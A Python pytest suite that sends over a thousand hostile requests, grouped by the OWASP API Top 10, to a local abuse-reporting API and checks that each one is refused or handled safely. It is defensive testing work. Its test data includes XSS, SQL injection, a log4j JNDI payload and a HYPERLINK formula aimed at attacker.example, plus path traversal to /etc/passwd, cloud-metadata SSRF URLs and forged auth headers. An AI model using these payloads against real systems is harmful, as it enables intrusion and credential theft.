"""A hostile-input suite against the local stack, organised by the OWASP API Security Top 10 (2023).

Every case is an HTTP request to `python -m local` (on a moto server in its own process, so the table can be read as
it is). Each answer, whatever the case, must hold to four rules: no 5xx, at most 64 KB, every security header, and
the status the case expects where it expects one. Then the table is read: every report item in it must belong to an
answer that accepted it (202 from the API, a confirmation page from the form), so no refusal wrote anything, and no
request ever reached the listener whose address the SSRF cases report (a reported URL is never fetched).
"""

from __future__ import annotations

import json
import re
import socket
import threading
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

import boto3
import pytest

from tests.e2e.stack import (
    SECURITY_HEADERS,
    UNTHROTTLED,
    Answer,
    Running,
    call,
    local_stack_on,
    moto_in_its_own_process,
)
from tests.samples import well_formed, xarf

pytestmark = pytest.mark.e2e

MAX_ANSWER_BYTES = 64 * 1024
PUBLIC_DOCUMENTS = ("/v1/openapi.json", "/v1/docs", "/assets/")  # the same for everyone: they may be cached
PARTNER_A, PARTNER_B = "AKIAHOSTILEPARTNERA1", "AKIAHOSTILEPARTNERB1"
JSON = [("Content-Type", "application/json")]
FORM_HEADERS = [
    ("Content-Type", "application/x-www-form-urlencoded"),
    ("Sec-Fetch-Site", "same-origin"),
]

# Characters the text rules refuse in every field (controls, bidi, invisible, tag, BOM), and those refused only in
# one-line fields (line breaks). Each comes back as a 422 wherever it is put.
REFUSED_EVERYWHERE = {
    "NUL": "\u0000",
    "ESC": "\u001b",
    "DEL": "\u007f",
    "C1 NEL": "\u0085",
    "RLO": "\u202e",
    "LRI": "\u2066",
    "ZWSP": "\u200b",
    "BOM": "\ufeff",
    "TAG A": "\U000e0041",
    "Hangul filler": "\u3164",
    "soft hyphen": "\u00ad",
}
LINE_BREAKS = {"LF": "\n", "CR": "\r", "LS": "\u2028", "PS": "\u2029"}
# Hostile in other ways, and text all the same: kept as sent (or refused by a field's format), never a 5xx.
INJECTIONS = {
    "script": "<script>alert(1)</script>",
    "img onerror": '"><img src=x onerror=alert(1)>',
    "sql": "' OR '1'='1' --",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "log4j": "${jndi:ldap://attacker.example/a}",
    "path": "../../../../etc/passwd",
    "formula": '=HYPERLINK("http://attacker.example","x")',
    "emoji": "\U0001f469\u200d\U0001f4bb report",
    "arabic": "\u062a\u0642\u0631\u064a\u0631",
    "long": "A" * 20_000,
}


@dataclass
class Case:
    owasp: str  # API1 ... API10
    name: str
    method: str
    target: str
    body: bytes = b""
    headers: list[tuple[str, str]] = field(default_factory=list)
    signed_as: str | None = PARTNER_A
    expect: frozenset[int] | None = None  # None: any 2xx-4xx
    check: Callable[[Answer], None] | None = None

    @property
    def id(self) -> str:
        return f"{self.owasp} {self.name}"


def report_body(report: dict[str, Any] | None = None, **envelope: Any) -> bytes:
    return json.dumps({"report": report if report is not None else xarf(), **envelope}).encode()


def submit(name: str, owasp: str, body: bytes, expect: set[int] | None = None, **fields: Any) -> Case:
    return Case(
        owasp, name, "POST", "/v1/reports", body, list(JSON), expect=frozenset(expect) if expect else None, **fields
    )


FORM = {
    "nonce": "",
    "tz_offset": "0",
    "kind": "phishing",
    "urls": "https://login.example.net/account/verify",
    "explanation": "A copy of my bank's login page.",
    "when": "",
    "name": "",
    "email": "",
    "good_faith": "yes",
}


def form_post(case_name: str, owasp: str, expect: set[int] | None = None, **changes: str | None) -> Case:
    fields = {**FORM, "nonce": uuid.uuid4().hex + uuid.uuid4().hex[:11], **changes}
    body = urlencode({k: v for k, v in fields.items() if v is not None}).encode()
    return Case(
        owasp,
        case_name,
        "POST",
        "/",
        body,
        list(FORM_HEADERS),
        signed_as=None,
        expect=frozenset(expect) if expect else None,
    )


# --- the cases, by OWASP category ------------------------------------------------------------------------------


def api1_object_level_authorization(victim_id: str) -> Iterator[Case]:
    """Another partner's report, and every way of writing an id that is not one's own."""
    for n in range(40):
        yield Case(
            "API1",
            f"another partner's report {n}",
            "GET",
            f"/v1/reports/{victim_id}",
            signed_as=PARTNER_B,
            expect=frozenset({404}),
            check=lambda a: assert_not_in(a, victim_id),
        )
    variants = [
        victim_id.lower(),
        victim_id + "0",
        victim_id[:-1],
        victim_id[:-1] + "Z",
        f"{victim_id}/",
        f"{victim_id}%00",
        quote(victim_id + "\u0000"),
        f"{victim_id}%2F..",
        "..%2F" + victim_id,
        "%2e%2e",
        "0" * 26,
        "Z" * 26,
        "I" * 26,
        "U" * 26,
        "1" * 2000,
        "' OR 1=1 --",
        quote("\u202e" + victim_id),
        "%FF%FE",
        "null",
        "undefined",
        "-1",
        "0",
        "*",
        "%2A",
        "{reportId}",
    ]
    for n, variant in enumerate(variants):
        for who in (PARTNER_B, None):
            yield Case(
                "API1",
                f"id {n} {variant[:30]!r} {'as another partner' if who else 'unsigned'}",
                "GET",
                f"/v1/reports/{quote(variant, safe='%/')}",
                signed_as=who,
                expect=frozenset({400, 403, 404, 414, 422}),
                check=lambda a: assert_not_in(a, victim_id),
            )
    for n in range(30):
        token = uuid.uuid4().hex
        body = urlencode({"report_id": victim_id, "receipt_token": token}).encode()
        yield Case(
            "API1",
            f"status page, guessed token {n}",
            "POST",
            "/status",
            body,
            list(FORM_HEADERS),
            signed_as=None,
            expect=frozenset({404, 422}),
            check=lambda a: assert_not_in(a, "PROCESSING"),
        )


def api2_authentication() -> Iterator[Case]:
    forged = [
        "",
        "AWS4-HMAC-SHA256",
        "AWS4-HMAC-SHA256 Credential=",
        "Basic YWRtaW46YWRtaW4=",
        "Bearer x.y.z",
        "AWS4-HMAC-SHA256 Credential=/20260101/us-east-1/execute-api/aws4_request, Signature=0",
        "AWS4-HMAC-SHA256 X-Credential=EVIL/1, Credential=A/2, SignedHeaders=host, Signature=0",
        "AWS4-HMAC-SHA256 Credential=A/1, Credential=B/2, SignedHeaders=host, Signature=0",
        "AWS4-HMAC-SHA256 Credential=" + "A" * 5000 + "/1, SignedHeaders=host, Signature=0",
        "AWS4-HMAC-SHA256 Credential=\u00e9vil/1, SignedHeaders=host, Signature=0",
        "Credential=AKIAEXAMPLE/20260101/us-east-1/execute-api/aws4_request",
        "AWS4-HMAC-SHA256 Credential=AKIA EVIL/1, SignedHeaders=host, Signature=0",
    ]
    presigned = [
        "X-Amz-Credential=",
        "X-Amz-Credential=EVIL",
        "X-Amz-Signature=00",
        "X-Amz-Credential=A%2F1&X-Amz-Credential=B%2F2",
    ]
    for route, method in (
        ("/v1/reports", "POST"),
        ("/v1/reports/01KB0000000000000000000000", "GET"),
        ("/v1/reports/batch", "POST"),
    ):
        attempts = [(f"unsigned {method} {route}", route, [])]
        attempts += [
            (f"forged Authorization {n} on {method} {route}", route, [("Authorization", authorization)])
            for n, authorization in enumerate(forged)
        ]
        attempts += [
            (f"presigned junk {n} on {method} {route}", f"{route}?{query}", []) for n, query in enumerate(presigned)
        ]
        for name, target, headers in attempts:
            yield Case(
                "API2", name, method, target, report_body(), [*JSON, *headers], signed_as=None, expect=frozenset({403})
            )


def api3_property_level_authorization() -> Iterator[Case]:
    """Fields the server owns, set by the caller: refused at the envelope, never believed inside the report."""
    owned = [
        "reportId",
        "status",
        "caseId",
        "duplicate",
        "receivedAt",
        "principal",
        "PK",
        "SK",
        "entity",
        "receiptToken",
        "__proto__",
        "constructor",
        "trustTier",
        "severity",
    ]
    for name in owned:
        yield submit(f"envelope field {name}", "API3", report_body(**{name: "attacker"}), {422})
        yield Case(
            "API3",
            f"envelope field {name} in a batch item",
            "POST",
            "/v1/reports/batch",
            json.dumps({"reports": [{"report": xarf(), name: "attacker"}]}).encode(),
            list(JSON),
            expect=frozenset({200}),
            check=lambda a: assert_batch_statuses(a, [422]),
        )
    for name in ["status", "caseId", "reportId", "severity", "trustTier", "received_at", "PK"]:
        report = xarf(**{name: "attacker-chosen"})
        yield submit(
            f"report field {name}",
            "API3",
            report_body(report, clientToken=uuid.uuid4().hex),
            {202, 422},
            check=assert_server_owned_fields,
        )


def api4_resource_consumption() -> Iterator[Case]:
    unknown = {f"x_{n:06d}": "v" * 40 for n in range(100_000)}
    yield submit("5 MB of unknown fields", "API4", report_body(xarf(**unknown)), {413, 422})
    yield submit("description of 5 MB", "API4", report_body(xarf(description="d" * 5_000_000)), {413, 422})
    for depth in (50, 500, 5_000, 50_000):
        nested = "[" * depth + "]" * depth
        body = b'{"report": ' + json.dumps(xarf()).encode()[:-1] + b', "deep": ' + nested.encode() + b"}}"
        yield submit(f"nesting {depth} deep", "API4", body, {202, 400, 413, 422})
    yield submit("100,000 array members", "API4", report_body(xarf(tags=["t"] * 100_000)), {413, 422})
    digits = report_body(xarf(port=0)).replace(b'"port": 0', b'"port": ' + b"9" * 100_000)
    yield submit("a number of 100,000 digits", "API4", digits, {400, 413, 422})
    yield submit(
        "51 evidence items",
        "API4",
        report_body(
            xarf(
                evidence=[{"content_type": "text/plain", "payload": "aGk=", "description": f"e{n}"} for n in range(51)]
            )
        ),
        {413, 422},
    )
    yield submit(
        "6 MB evidence payload",
        "API4",
        report_body(xarf(evidence=[{"content_type": "application/octet-stream", "payload": "A" * 6_000_000}])),
        {413, 422},
    )
    yield Case(
        "API4",
        "batch of 1,000",
        "POST",
        "/v1/reports/batch",
        json.dumps({"reports": [{"report": xarf()}] * 1000}).encode(),
        list(JSON),
        expect=frozenset({413, 422}),
    )
    for n in range(30):
        yield submit(
            f"every problem at once, {n * 50} unknown nested",
            "API4",
            report_body(
                {
                    "category": "content",
                    "timestamp": "yesterday",
                    "reporter": {"contact": 1},
                    **{f"bad{k}": {"\u0000": "x"} for k in range(n * 50)},
                }
            ),
            {422},
        )
    yield form_post("form explanation of 2 MB", "API4", {413, 422}, explanation="x" * 2_000_000)
    yield form_post(
        "form with 10,000 urls", "API4", {413, 422}, urls="\n".join(f"https://example.com/{n}" for n in range(10_000))
    )


def api5_function_level_authorization() -> Iterator[Case]:
    routes = [
        "/v1/reports",
        "/v1/reports/01KB0000000000000000000000",
        "/v1/reports/batch",
        "/v1/openapi.json",
        "/v1/docs",
        "/",
        "/status",
        "/assets/form.css",
    ]
    for route in routes:
        for method in ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "get", "post"):
            yield Case("API5", f"{method} {route}", method, route, signed_as=PARTNER_A, expect=frozenset({403}))
    for path in [
        "/v1/admin",
        "/v1/casefiles",
        "/v1/cases/x/decision",
        "/v1/reports/x/decide",
        "/admin",
        "/internal",
        "/.env",
        "/.git/config",
        "/v1/../admin",
        "/v1/reports/01KB0000000000000000000000/delete",
        "/v1/analyst",
        "/v1/ncmec",
        "/debug",
        "/metrics",
        "/server-status",
        "/v1/users",
    ]:
        for method in ("GET", "POST"):
            yield Case("API5", f"{method} {path}", method, path, signed_as=PARTNER_A, expect=frozenset({403, 404}))


def api6_business_flows() -> Iterator[Case]:
    """The same report again and again is one report: the dedupe holds under repetition."""
    report = xarf(description="sent forty times")
    body = report_body(report)
    for n in range(40):
        yield submit(f"the same report, copy {n}", "API6", body, {202}, check=REPEATS.record)
    form = form_post("the same form page", "API6", {200})
    for n in range(20):
        yield Case(
            "API6",
            f"the same form page, copy {n}",
            "POST",
            "/",
            form.body,
            form.headers,
            signed_as=None,
            expect=frozenset({200}),
            check=FORM_REPEATS.record,
        )


@dataclass
class Repeats:
    """Every answer of a repeated submission names one and the same report."""

    ids: set[str] = field(default_factory=set)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def record(self, answer: Answer) -> None:
        found = answer_report_ids(answer)
        with self.lock:
            self.ids |= found


REPEATS, FORM_REPEATS = Repeats(), Repeats()


def api7_ssrf(listener: str) -> Iterator[Case]:
    """Addresses a server must never fetch. We never fetch what is reported: http(s) is accepted as a report (the
    listener sees nothing); other schemes are refused."""
    fetchable = [
        f"http://{listener}/latest/meta-data/",
        f"https://{listener}/a",
        f"http://{listener}/?q=%0d%0a",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://0x7f000001/",
        "http://2130706433/",
        "http://127.1/",
        "http://localhost:3000/v1/reports",
    ]
    refused = [
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://127.0.0.1:11211/stat",
        "ftp://127.0.0.1/",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "jar:http://127.0.0.1/a.jar!/",
        "ldap://127.0.0.1/",
        "vbscript:msgbox",
        "\\\\127.0.0.1\\share",
    ]
    for url in fetchable:
        yield submit(f"url {url}", "API7", report_body(xarf(url=url), clientToken=uuid.uuid4().hex), {202, 422})
        yield form_post(f"form url {url}", "API7", {200, 422}, urls=url)
    for url in refused:
        yield submit(f"url {url}", "API7", report_body(xarf(url=url)), {422})
        yield submit(f"submission_url {url}", "API7", report_body(xarf(submission_url=url)), {422})
        yield form_post(f"form url {url}", "API7", {422}, urls=url)


def api8_misconfiguration() -> Iterator[Case]:
    for content_type in [
        "text/plain",
        "application/xml",
        "multipart/form-data; boundary=x",
        "application/x-www-form-urlencoded",
        "application/json; charset=utf-16",
        "",
        "*/*",
    ]:
        yield Case(
            "API8",
            f"Content-Type {content_type!r}",
            "POST",
            "/v1/reports",
            report_body(),
            [("Content-Type", content_type)] if content_type else [],
            expect=frozenset({202, 400, 415, 422}),
        )
    for name, body in [
        ("invalid UTF-8", b'{"report": {"description": "\xff\xfe"}}'),
        ("UTF-8 BOM", b"\xef\xbb\xbf" + report_body()),
        ("UTF-16", report_body().decode().encode("utf-16")),
        ("top-level array", b"[]"),
        ("top-level string", b'"report"'),
        ("null", b"null"),
        ("empty", b""),
        ("trailing garbage", report_body() + b"}}"),
        ("comment", b"/* x */" + report_body()),
        ("duplicate keys", b'{"report": {}, "report": ' + json.dumps(xarf()).encode() + b"}"),
        ("NaN", report_body().replace(b'"xarf_version"', b'"n": NaN, "xarf_version"')),
        ("Infinity", report_body().replace(b'"xarf_version"', b'"n": -Infinity, "xarf_version"')),
        ("1e400", report_body().replace(b'"xarf_version"', b'"n": 1e400, "xarf_version"')),
        ("lone surrogate", report_body().replace(b'"xarf_version"', b'"s": "\\ud800", "xarf_version"')),
        ("single quotes", b"{'report': {}}"),
        ("unquoted keys", b"{report: {}}"),
    ]:
        yield submit(f"JSON: {name}", "API8", body, {400, 415, 422}, check=assert_problem_json)
    for origin in ["https://attacker.example", "null", "http://127.0.0.1:3000"]:
        yield Case(
            "API8",
            f"preflight from {origin}",
            "OPTIONS",
            "/v1/reports",
            headers=[("Origin", origin), ("Access-Control-Request-Method", "POST")],
            signed_as=None,
            check=assert_no_wildcard_cors,
        )
        cross_site = form_post(f"form from Origin {origin}", "API8", {403, 422})
        cross_site.headers = [
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Origin", origin),
            ("Sec-Fetch-Site", "cross-site"),
        ]
        yield cross_site
    for route in ["/v1/openapi.json", "/v1/docs", "/", "/status", "/assets/form.css", "/nowhere"]:
        yield Case("API8", f"headers on GET {route}", "GET", route, signed_as=None)


def api9_inventory() -> Iterator[Case]:
    for path in [
        "/v0/reports",
        "/v2/reports",
        "/V1/reports",
        "/v1/Reports",
        "/v1/reports/x/",
        "/v1/reports;x",
        "/v1/reports%2f",
        "/v1/openapi.yaml",
        "/v1/swagger.json",
        "/v1/docs/../../",
        "/assets/../handler.py",
        "/assets/%2e%2e%2fhandler.py",
        "/assets/..%5chandler.py",
        "/assets/handler.py",
        "/assets/",
        "/assets/%00",
        "/v1/reports/batch/1",
        "/api/v1/reports",
        "/v1/reports.json",
    ]:
        for method in ("GET", "POST"):
            yield Case(
                "API9",
                f"{method} {path}",
                method,
                path,
                report_body() if method == "POST" else b"",
                list(JSON),
                expect=frozenset({400, 403, 404}),
                check=assert_no_source,
            )


def api10_unsafe_consumption() -> Iterator[Case]:
    """What a partner's system may pass on from its own sources: hostile text in every kind of field."""
    one_line: dict[str, Callable[[str], dict[str, Any]]] = {
        "reporter.org": lambda v: xarf(reporter={**xarf()["reporter"], "org": f"Example {v} CERT"}),
        "reporter.contact": lambda v: xarf(reporter={**xarf()["reporter"], "contact": f"abuse{v}@cert.example"}),
        "sender.org": lambda v: xarf(sender={**xarf()["sender"], "org": f"Example {v}"}),
        "source_identifier": lambda v: xarf(source_identifier=f"203.0.113.7{v}"),
        "url": lambda v: xarf(url=f"https://login.example.net/{v}"),
        "array member": lambda v: xarf(tags=["ok", f"t{v}"]),
        "nested extension": lambda v: xarf(extra={"deep": [{"k": f"v{v}"}]}),
        "member name": lambda v: xarf(extra={f"k{v}": "v"}),
    }
    free_text: dict[str, Callable[[str], dict[str, Any]]] = {
        "description": lambda v: xarf(description=f"Seen {v} today."),
    }
    for field_name, build in {**one_line, **free_text}.items():
        for char_name, char in REFUSED_EVERYWHERE.items():
            yield submit(
                f"{char_name} in {field_name}", "API10", report_body(build(char)), {422}, check=assert_pointer_given
            )
    for field_name, build in {**one_line, **free_text}.items():
        for char_name, char in REFUSED_EVERYWHERE.items():
            items = [{"report": xarf(), "clientToken": uuid.uuid4().hex}, {"report": build(char)}]
            yield Case(
                "API10",
                f"{char_name} in {field_name} of a batch item",
                "POST",
                "/v1/reports/batch",
                json.dumps({"reports": items}).encode(),
                list(JSON),
                expect=frozenset({200}),
                check=lambda a: assert_batch_statuses(a, [202, 422]),
            )
    for field_name, build in one_line.items():
        for char_name, char in LINE_BREAKS.items():
            yield submit(f"{char_name} in one-line {field_name}", "API10", report_body(build(char)), {422})
    for char_name, char in LINE_BREAKS.items():
        yield submit(
            f"{char_name} in free text",
            "API10",
            report_body(xarf(description=f"line one{char}line two"), clientToken=uuid.uuid4().hex),
            {202},
        )
    for field_name, build in {**one_line, **free_text}.items():
        for name, text in INJECTIONS.items():
            yield submit(
                f"{name} in {field_name}",
                "API10",
                report_body(build(text), clientToken=uuid.uuid4().hex),
                {202, 413, 422},
            )
    for name, number in [("NaN", "NaN"), ("Infinity", "Infinity"), ("-Infinity", "-Infinity")]:
        for where in ("port", "extra.count", "array"):
            document = json.dumps(xarf(port=0, extra={"count": 0}, tags=[0]))
            target = {"port": '"port": 0', "extra.count": '"count": 0', "array": '"tags": [0]'}[where]
            replaced = target.replace("0", number)
            yield submit(
                f"{name} as {where}",
                "API10",
                b'{"report": ' + document.replace(target, replaced).encode() + b"}",
                {422},
            )
    form_fields = ["urls", "explanation", "when", "tz_offset", "name", "email", "kind", "nonce"]
    for form_field in form_fields:
        for char_name, char in REFUSED_EVERYWHERE.items():
            value = FORM.get(form_field) or "x"
            yield form_post(f"form {form_field} with {char_name}", "API10", {422}, **{form_field: value + char})
        for name, text in list(INJECTIONS.items())[:6]:
            yield form_post(f"form {form_field} with {name}", "API10", {200, 422}, **{form_field: text})
    for when, offset in [
        ("0001-01-01T00:00", "60"),
        ("9999-12-31T23:59", "-60"),
        ("0000-00-00T00:00", "0"),
        ("2026-02-30T00:00", "0"),
        ("2026-01-01T25:00", "0"),
        ("1e9", "0"),
        ("2026-01-01T00:00", "99999999999999999999"),
        ("2026-01-01T00:00", "NaN"),
        ("2026-01-01T00:00", "-0x10"),
        ("9999-12-31T23:59", "-840"),
    ]:
        yield form_post(f"form date {when} offset {offset}", "API10", {422}, when=when, tz_offset=offset)
    for kind in ["csam", "", "../../x", "CSAM ", "phishing\u0000"]:
        yield form_post(f"form kind {kind!r}", "API10", {200, 422}, kind=kind, email="", name="")


# --- per-case checks -------------------------------------------------------------------------------------------


def assert_not_in(answer: Answer, secret: str) -> None:
    assert secret.encode() not in answer.body, "the answer tells what it must not"


def assert_problem_json(answer: Answer) -> None:
    problem = answer.json()
    assert problem["message"] and all(item["code"] for item in problem.get("unmetRequirements", [])), problem


def assert_pointer_given(answer: Answer) -> None:
    assert any(problem["path"].startswith("/report") for problem in answer.json()["unmetRequirements"])


def assert_batch_statuses(answer: Answer, statuses: list[int]) -> None:
    assert [result["status"] for result in answer.json()["results"]] == statuses


def assert_server_owned_fields(answer: Answer) -> None:
    receipt = answer.json()
    if answer.status == 202:
        assert receipt["status"] in ("QUEUED", "PROCESSING") and "attacker" not in json.dumps(receipt)
        assert re.fullmatch(r"[0-9A-HJKMNP-TV-Z]{26}", receipt["reportId"])


def assert_no_wildcard_cors(answer: Answer) -> None:
    assert answer.header("Access-Control-Allow-Origin") in ([], ["null"]) or "*" not in answer.header(
        "Access-Control-Allow-Origin"
    )


def assert_no_source(answer: Answer) -> None:
    assert b"def lambda_handler" not in answer.body and b"import " not in answer.body


def answer_report_ids(answer: Answer) -> set[str]:
    """The reports an answer says were accepted: a receipt, a batch's 202 items, a form's confirmation page."""
    if answer.status == 202:
        return {answer.json()["reportId"]}
    if answer.status == 200 and answer.header("Content-Type")[:1] == ["application/json"]:
        results = answer.json().get("results") if isinstance(answer.json(), dict) else None
        return {r["reportId"] for r in results or [] if r.get("status") == 202}
    if answer.status == 200:
        return {match.decode() for match in re.findall(rb'id="report-id">([0-9A-Z]{26})<', answer.body)}
    return set()


# --- the run ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def endpoint() -> Iterator[str]:
    with moto_in_its_own_process() as url:
        yield url


@pytest.fixture(scope="module")
def stack(endpoint: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with local_stack_on(endpoint, tmp_path_factory.mktemp("hostile"), *UNTHROTTLED) as running:
        yield running


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A socket that records anything that connects to it: the SSRF cases report its address."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue  # a poll interval, so the thread can see `stop`
            with connection:
                received.append(connection.recv(1024) or b"(connected)")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    host, port = server.getsockname()
    try:
        yield f"{host}:{port}", received
    finally:
        stop.set()
        thread.join()
        server.close()


def all_cases(victim_id: str, listener: str) -> list[Case]:
    return [
        *api1_object_level_authorization(victim_id),
        *api2_authentication(),
        *api3_property_level_authorization(),
        *api4_resource_consumption(),
        *api5_function_level_authorization(),
        *api6_business_flows(),
        *api7_ssrf(listener),
        *api8_misconfiguration(),
        *api9_inventory(),
        *api10_unsafe_consumption(),
    ]


def stored_report_ids(endpoint: str) -> set[str]:
    ddb = boto3.client(
        "dynamodb", endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id="t", aws_secret_access_key="t"
    )
    (table,) = [name for name in ddb.list_tables()["TableNames"] if "ReportsTable" in name]
    found: set[str] = set()
    for page in ddb.get_paginator("scan").paginate(
        TableName=table, FilterExpression="entity = :report", ExpressionAttributeValues={":report": {"S": "report"}}
    ):
        found |= {item["reportId"]["S"] for item in page["Items"]}
    return found


def run(stack: Running, case: Case) -> tuple[Case, Answer | None, str | None]:
    try:
        answer = call(
            stack.port,
            case.method,
            case.target,
            body=case.body,
            headers=case.headers,
            signed=case.signed_as is not None,
            access_key=case.signed_as or PARTNER_A,
        )
    except Exception as error:  # the connection dropped: a failure of its own, named with its case
        return case, None, f"{type(error).__name__}: {error}"
    problems = []
    if answer.status >= 500:
        problems.append(f"answered {answer.status}")
    if len(answer.body) > MAX_ANSWER_BYTES:
        problems.append(f"answered {len(answer.body)} bytes")
    for name, value in SECURITY_HEADERS.items():
        if name == "Cache-Control" and answer.status == 200 and case.target.startswith(PUBLIC_DOCUMENTS):
            value = answer.header(name)[0] if answer.header(name)[:1] else "(missing)"  # public, cacheable
        if answer.header(name) != [value]:
            problems.append(f"header {name} is {answer.header(name)}")
    if case.expect is not None and answer.status not in case.expect:
        problems.append(f"answered {answer.status}, expected one of {sorted(case.expect)}: {answer.body[:300]!r}")
    if case.check is not None and not problems:
        try:
            case.check(answer)
        except (AssertionError, KeyError, ValueError, TypeError) as error:
            problems.append(f"check failed: {error!r}")
    return case, answer, "; ".join(problems) or None


def test_a_thousand_hostile_requests_by_owasp_category(
    stack: Running, endpoint: str, listener: tuple[str, list[bytes]]
) -> None:
    victim = call(
        stack.port,
        "POST",
        "/v1/reports",
        body=report_body(well_formed("content", "phishing")),
        headers=JSON,
        signed=True,
        access_key=PARTNER_A,
    )
    assert victim.status == 202
    victim_id = victim.json()["reportId"]
    address, received = listener
    cases = all_cases(victim_id, address)
    assert len(cases) >= 1000, len(cases)
    assert len({case.id for case in cases}) == len(cases), "every case has a name of its own"

    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(lambda case: run(stack, case), cases))

    failures = [f"{case.id}: {problem}" for case, _, problem in results if problem]
    assert not failures, f"{len(failures)} of {len(cases)} cases failed:\n" + "\n".join(failures[:150])

    accepted = {victim_id}
    for _, answer, _ in results:
        if answer is not None:
            accepted |= answer_report_ids(answer)
    stored = stored_report_ids(endpoint)
    assert stored - accepted == set(), "a refused request wrote a report"
    assert accepted - stored == set(), "an accepted report is not in the table"
    assert len(REPEATS.ids) == 1 and len(FORM_REPEATS.ids) == 1, "a repeated submission is one report"
    assert received == [], "a reported URL was fetched"
    by_category = Counter(case.owasp for case in cases)
    assert set(by_category) == {f"API{n}" for n in range(1, 11)}, by_category
